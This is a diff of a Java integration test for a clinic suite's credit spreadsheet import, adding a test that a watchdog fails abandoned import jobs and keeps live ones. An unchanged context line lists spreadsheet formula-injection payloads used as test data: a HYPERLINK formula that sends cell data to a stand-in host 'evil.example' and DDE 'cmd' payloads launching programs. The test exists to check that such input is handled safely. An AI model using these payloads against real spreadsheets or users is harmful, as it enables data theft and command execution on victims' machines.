@@ -8,14 +8,17 @@ import static org.hamcrest.Matchers.startsWith;
 import com.clinicsuite.events.EventCatalog;
 import com.clinicsuite.events.Topics;
 import com.clinicsuite.events.credit.CreditImportResult;
+import com.clinicsuite.imports.credit.service.CreditImportWatchdog;
 import com.clinicsuite.testkit.EventPublisher;
 import com.clinicsuite.testkit.SuiteInfrastructure;
 import com.clinicsuite.testkit.TestTokens;
 import com.clinicsuite.testkit.TopicReader;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import io.quarkus.arc.Arc;
 import io.quarkus.test.common.WithTestResource;
 import io.quarkus.test.junit.QuarkusTest;
+import io.quarkus.vertx.VertxContextSupport;
 import io.restassured.path.json.JsonPath;
 import io.restassured.specification.RequestSpecification;
 import java.io.File;
@@ -28,6 +31,7 @@ import java.sql.ResultSet;
 import java.time.Duration;
 import java.util.List;
 import java.util.Set;
+import java.util.UUID;
 import java.util.function.Predicate;
 import org.junit.jupiter.api.Test;
 
@@ -198,6 +202,43 @@ class CreditImportHttpTest {
             assertThat(names).contains("=HYPERLINK(\"http://evil.example/steal?d=\"&C4,\"Click for refund\")",
                     "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "@SUM(1,1)");
         }
+    }
+
+    @Test
+    void jobsAbandonedByAStoppedInstanceEndFailedAndLiveOnesAreKept() throws Throwable {
+        String abandoned = UUID.randomUUID().toString();
+        String elsewhere = UUID.randomUUID().toString();
+        String heldHere = UUID.randomUUID().toString();
+        try (Connection db = SuiteInfrastructure.jdbcConnection();
+             PreparedStatement insert = db.prepareStatement("insert into credit_import_job (id, filename, mode, dry_run,"
+                     + " status, created_at, started_at, heartbeat_at) values (?, 'sheet.xlsx', 'replace', false, ?,"
+                     + " now() - interval '20 minutes', now() - interval '20 minutes', now() - (? * interval '1 minute'))")) {
+            Object[][] jobs = {{abandoned, "parsing", 10}, {elsewhere, "queued", 0}, {heldHere, "parsing", 10}};
+            for (Object[] job : jobs) {
+                insert.setString(1, (String) job[0]);
+                insert.setString(2, (String) job[1]);
+                insert.setInt(3, (Integer) job[2]);
+                insert.executeUpdate();
+            }
+        }
+        CreditImportWatchdog watchdog = Arc.container().instance(CreditImportWatchdog.class).get();
+        watchdog.hold(heldHere);
+        try {
+            VertxContextSupport.subscribeAndAwait(watchdog::heartbeat);
+            int ended = VertxContextSupport.subscribeAndAwait(watchdog::failAbandoned);
+            assertThat(ended).isGreaterThanOrEqualTo(1);
+        } finally {
+            watchdog.release(heldHere);
+        }
+
+        JsonPath failed = admin().get("/imports/" + abandoned).then().statusCode(200).extract().jsonPath();
+        assertThat(failed.getString("status")).isEqualTo("failed");
+        assertThat(failed.getString("finished_at")).isNotNull();
+        assertThat(failed.getList("errors.message", String.class))
+                .anySatisfy(m -> assertThat(m).contains("interrupted").contains("upload the file again"));
+        // a job another instance renews, and one this instance holds (its heartbeat was just renewed), stay as they are
+        admin().get("/imports/" + elsewhere).then().statusCode(200).body("status", equalTo("queued"));
+        admin().get("/imports/" + heldHere).then().statusCode(200).body("status", equalTo("parsing"));
     }
 
     private static RequestSpecification admin() {
